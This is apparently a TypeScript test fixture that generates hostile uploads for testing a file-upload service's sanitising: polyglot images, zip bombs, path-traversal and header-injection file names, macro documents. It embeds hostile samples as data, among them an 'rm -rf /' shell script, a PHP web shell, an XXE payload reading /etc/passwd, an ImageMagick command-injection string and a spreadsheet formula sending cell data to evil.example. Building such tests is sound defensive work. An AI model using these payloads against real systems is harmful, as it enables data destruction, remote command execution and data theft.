import { deflateSync } from 'node:zlib'
import type { MEDIA_TYPES } from '@shyrdak/sdk/contract'
import { zipSync } from 'fflate'
import { office, PDF, photo } from './sample-files.ts'

type Format = keyof typeof MEDIA_TYPES

/** A hostile upload: its name, its declared type, and the expected result. */
export interface HostileFile {
  about: string
  bytes: Uint8Array
  type: Format
  name: string
  /** `refused`, or accepted as this format with nothing hostile left in the response. */
  becomes: 'refused' | Format
  /** Text that must not be in the bytes of the response. */
  gone?: string
}

const text = (content: string) => Buffer.from(content)
const crc32 = (bytes: Uint8Array) => {
  let crc = ~0
  for (const byte of bytes) {
    crc ^= byte
    for (let bit = 0; bit < 8; bit++) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0)
  }
  return ~crc >>> 0
}
const uint32 = (value: number) => {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value >>> 0)
  return bytes
}
const chunk = (kind: string, content: Uint8Array) => {
  const body = Buffer.concat([text(kind), content])
  return Buffer.concat([uint32(content.length), body, uint32(crc32(body))])
}
const SIGNATURE = Buffer.from('89504e470d0a1a0a', 'hex')

/** A PNG that declares this size; its pixels are `rows` rows of zeros. */
const pngOf = (width: number, height: number, rows = 1, extra: Uint8Array[] = []) =>
  Buffer.concat([
    SIGNATURE,
    chunk('IHDR', Buffer.concat([uint32(width), uint32(height), Buffer.from([8, 2, 0, 0, 0])])),
    ...extra,
    chunk('IDAT', deflateSync(Buffer.alloc(Math.min(rows * (width * 3 + 1), 40_000_000)))),
    chunk('IEND', new Uint8Array()),
  ])

const SCRIPT = '<script>alert(document.domain)</script>'
const SVG = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`
const HTML = `<!doctype html><html><body onload="alert(1)">${SCRIPT}</body></html>`
const EXE = Buffer.concat([text('MZ\x90\x00\x03\x00\x00\x00'), Buffer.alloc(512)])
const ELF = Buffer.concat([Buffer.from('7f454c4602010100', 'hex'), Buffer.alloc(512)])
const GIF = Buffer.from(
  '47494638396101000100800000ffffff00000021f90401000000002c00000000010001000002024401003b',
  'hex',
)
const MACH_O = Buffer.concat([Buffer.from('cffaedfe07000001', 'hex'), Buffer.alloc(256)])
const JAVA = Buffer.concat([Buffer.from('cafebabe00000034', 'hex'), Buffer.alloc(256)])
const SHELL = text('#!/bin/sh\nrm -rf /\n')
const PHP = text('<?php system($_GET["c"]); ?>')
const RTF = text('{\\rtf1\\ansi{\\object\\objocx}}')
const OLE = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1024)])
const TIFF = Buffer.concat([Buffer.from('49492a0008000000', 'hex'), Buffer.alloc(64)])
const BMP = Buffer.concat([text('BM'), Buffer.alloc(128)])
const ICO = Buffer.concat([Buffer.from('00000100010010100000', 'hex'), Buffer.alloc(64)])
const HEIC = Buffer.concat([uint32(24), text('ftypheic'), Buffer.alloc(64)])
const EPS = text('%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) run\n')
const MVG = text("push graphic-context\nfill 'url(https://127.0.0.1/|id\")'\npop graphic-context")
const XML = text('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')

const WRONG: [string, Uint8Array][] = [
  ['HTML', text(HTML)],
  ['an SVG with a script', text(SVG)],
  ['a program for Windows', EXE],
  ['a program for Linux', ELF],
  ['a program for macOS', MACH_O],
  ['a Java class', JAVA],
  ['a shell script', SHELL],
  ['PHP', PHP],
  ['RTF with an object', RTF],
  ['an old Office document', OLE],
  ['a GIF', GIF],
  ['a TIFF', TIFF],
  ['a bitmap', BMP],
  ['an icon', ICO],
  ['an image of an iPhone', HEIC],
  ['PostScript', EPS],
  ['a drawing that calls a program', MVG],
  ['XML with an entity', XML],
]

/** Each wrong kind with the type of an image, a document, and an archive. */
const wrongTypes: HostileFile[] = WRONG.flatMap(([what, bytes]) =>
  (['jpg', 'pdf', 'docx'] as const).map((type) => ({
    about: `${what} that says it is ${type}`,
    bytes,
    type,
    name: `a.${type}`,
    becomes: 'refused' as const,
  })),
)

/** Programs and truncated images declared as text. */
const noTexts: HostileFile[] = [
  ['a program', EXE],
  ['another program', ELF],
  ['a bitmap', BMP],
  ['an old Office document', OLE],
  ['text with a NUL', text('a\0b')],
  ['text with an escape sequence', text('\x1b]0;owned\x07')],
].map(([about, bytes]) => ({
  about: `${String(about)} that says it is text`,
  bytes: bytes as Uint8Array, // the second of each pair
  type: 'txt',
  name: 'a.txt',
  becomes: 'refused',
}))

/** Markup declared as text is text: saved, never shown as a page. */
const markup: HostileFile[] = [
  ['HTML', HTML],
  ['an SVG', SVG],
  ['a spreadsheet formula', '=HYPERLINK("https://evil.example?x="&A1,"press")'],
].flatMap(([what = '', content = '']) =>
  (['txt', 'csv'] as const).map((type) => ({
    about: `${what} that says it is ${type}`,
    bytes: text(content),
    type,
    name: `a.${type}`,
    becomes: type,
  })),
)

/** Names that are paths, markup or header syntax, or that display another extension. */
const NAMES = [
  '../../../etc/passwd.jpg',
  '..\\..\\windows\\system32\\evil.jpg',
  '/etc/cron.d/evil.jpg',
  'C:\\autoexec.jpg',
  'a\0.jpg',
  'photo\u202Egpj.exe',
  '\u2066photo\u2069.jpg',
  'photo.jpg.exe',
  '.htaccess',
  '....jpg',
  'a\r\nset-cookie: x=1.jpg',
  '"><img src=x onerror=alert(1)>.jpg',
  `${'д'.repeat(250)}.jpg`,
  '%2e%2e%2f%2e%2e%2fevil.jpg',
  '\uFEFF\u200B\u200D.jpg',
  'CON.jpg',
  'a;b=c|d?e*f<g>h.jpg',
  '🧶'.repeat(60),
  'ñ\u0303\u0301\u0300'.repeat(40),
  '\u{E0041}\u{E0042}tags.jpg',
]

export async function hostileFiles(): Promise<HostileFile[]> {
  const jpeg = await photo().jpeg().toBuffer()
  const png = await photo().png().toBuffer()
  const webp = await photo().webp().toBuffer()
  const inJpeg = (marker: number, content: string) => {
    const body = text(content)
    const length = Buffer.alloc(2)
    length.writeUInt16BE(body.length + 2)
    return Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, marker]), length, body, jpeg.subarray(2)])
  }
  const comment = inJpeg(0xfe, SCRIPT)
  const exif = inJpeg(0xe1, `Exif\0\0${SCRIPT}`)
  const icc = inJpeg(0xe2, `ICC_PROFILE\0\x01\x01${SCRIPT}`)
  const pngText = Buffer.concat([
    png.subarray(0, 33),
    chunk('tEXt', text(`Comment\0${SCRIPT}`)),
    png.subarray(33),
  ])
  const bomb = zipSync({
    '[Content_Types].xml': text('<Types/>'),
    'word/document.xml': new Uint8Array(70_000_000),
  })
  const lying = Buffer.from(office('word/document.xml', { 'a.xml': new Uint8Array(5_000_000) }))
  // The central directory declares ten bytes instead of five million.
  for (let at = lying.indexOf('PK\x01\x02'); at >= 0; at = lying.indexOf('PK\x01\x02', at + 4))
    if (lying.readUInt32LE(at + 24) === 5_000_000) lying.writeUInt32LE(10, at + 24)
  const polyglots: HostileFile[] = [
    { about: 'a JPEG with HTML behind its end', bytes: Buffer.concat([jpeg, text(HTML)]) },
    {
      about: 'a JPEG with an archive behind its end',
      bytes: Buffer.concat([jpeg, office('word/document.xml')]),
    },
    { about: 'a JPEG with a PDF behind its end', bytes: Buffer.concat([jpeg, text(PDF + SCRIPT)]) },
    { about: 'a JPEG with a script in its comment', bytes: comment },
    { about: 'a JPEG with a script in its metadata', bytes: exif },
    { about: 'a JPEG with a script in its colours', bytes: icc },
    { about: 'a JPEG with PHP behind its end', bytes: Buffer.concat([jpeg, PHP, text(SCRIPT)]) },
  ].map((file) => ({ ...file, type: 'jpg', name: 'a.jpg', becomes: 'jpg', gone: 'alert(' }))
  return [
    ...wrongTypes,
    ...noTexts,
    ...markup,
    ...NAMES.map((name): HostileFile => ({
      about: `the name ${JSON.stringify(name).slice(0, 60)}`,
      bytes: jpeg,
      type: 'jpg',
      name,
      becomes: 'jpg',
    })),
    ...polyglots,
    {
      about: 'a PNG with a script in its text',
      bytes: pngText,
      type: 'png',
      name: 'a.png',
      becomes: 'png',
      gone: 'alert(',
    },
    {
      about: 'a PNG with HTML behind its end',
      bytes: Buffer.concat([png, text(HTML)]),
      type: 'png',
      name: 'a.png',
      becomes: 'png',
      gone: 'alert(',
    },
    {
      about: 'a WebP with HTML behind its end',
      bytes: Buffer.concat([webp, text(HTML)]),
      type: 'webp',
      name: 'a.webp',
      becomes: 'jpg',
      gone: 'alert(',
    },
    { about: 'an image under the name of a page', bytes: jpeg, type: 'jpg', name: 'a.html', becomes: 'jpg' },
    { about: 'an image that says it is a document', bytes: jpeg, type: 'pdf', name: 'a.pdf', becomes: 'jpg' },
    ...(
      [
        ['nothing at all', new Uint8Array()],
        ['one byte', Buffer.from([0xff])],
        ['the beginning of a JPEG', jpeg.subarray(0, 20)],
        ['half a JPEG', jpeg.subarray(0, jpeg.length / 2)],
        ['half a PNG', png.subarray(0, png.length / 2)],
        ['half a WebP', webp.subarray(0, webp.length / 2)],
        ['a PNG of four thousand million pixels', pngOf(65_535, 65_535)],
        ['a PNG a pixel high and two thousand million wide', pngOf(2_147_483_647, 1)],
        ['a PNG of no width', pngOf(0, 10)],
        ['a PNG of sixty million pixels that are all there', pngOf(10_000, 6_000, 6_000)],
        ['a PNG without its pixels', Buffer.concat([SIGNATURE, chunk('IEND', new Uint8Array())])],
        ['a JPEG with noise for pixels', Buffer.concat([jpeg.subarray(0, 180), Buffer.alloc(4_000, 0xd8)])],
      ] as [string, Uint8Array][]
    ) // pairs of a text and bytes
      .map(([about, bytes]): HostileFile => ({
        about,
        bytes,
        type: 'png',
        name: 'a.png',
        becomes: 'refused',
      })),
    ...(
      [
        ['a document that unpacks to seventy megabytes', bomb],
        ['an archive that lies about its size', lying],
        ['a document with macros', office('word/document.xml', { 'word/vbaProject.bin': text('x') })],
        [
          'a document with a control',
          office('word/document.xml', { 'word/activeX/activeX1.xml': text('x') }),
        ],
        [
          'a document with an object',
          office('xl/workbook.xml', { 'xl/embeddings/oleObject1.bin': text('x') }),
        ],
        ['a document with a program', office('word/document.xml', { 'word/run.exe': EXE })],
        ['a document with a script', office('word/document.xml', { 'word/run.vbs': text('x') })],
        ['a document with a path for a name', office('word/document.xml', { '../../evil.xml': text('x') })],
        ['a document with an absolute path', office('word/document.xml', { '/etc/evil.xml': text('x') })],
        ['an archive of nothing', zipSync({})],
        ['an archive that is no document', zipSync({ 'readme.txt': text('x') })],
        ['half an archive', Buffer.from(office('word/document.xml')).subarray(0, 90)],
        [
          'an archive of three thousand files',
          office(
            'word/document.xml',
            Object.fromEntries(Array.from({ length: 3_000 }, (_, turn) => [`a/${turn}.xml`, text('x')])),
          ),
        ],
        ['an archive of archives', zipSync({ 'inner.zip': zipSync({ 'a.txt': new Uint8Array(1_000_000) }) })],
      ] as [string, Uint8Array][]
    ) // pairs of a text and bytes
      .map(([about, bytes]): HostileFile => ({
        about,
        bytes,
        type: 'docx',
        name: 'a.docx',
        becomes: 'refused',
      })),
    { about: 'half a PDF', bytes: text(PDF.slice(0, 40)), type: 'pdf', name: 'a.pdf', becomes: 'refused' },
    {
      about: 'a PDF with something before it',
      bytes: text(`MZ${PDF}`),
      type: 'pdf',
      name: 'a.pdf',
      becomes: 'refused',
    },
    {
      about: 'a PDF with a script',
      bytes: text(`${PDF}/JS (app.alert(1))\n%%EOF`),
      type: 'pdf',
      name: 'a.pdf',
      becomes: 'pdf',
    },
  ]
}
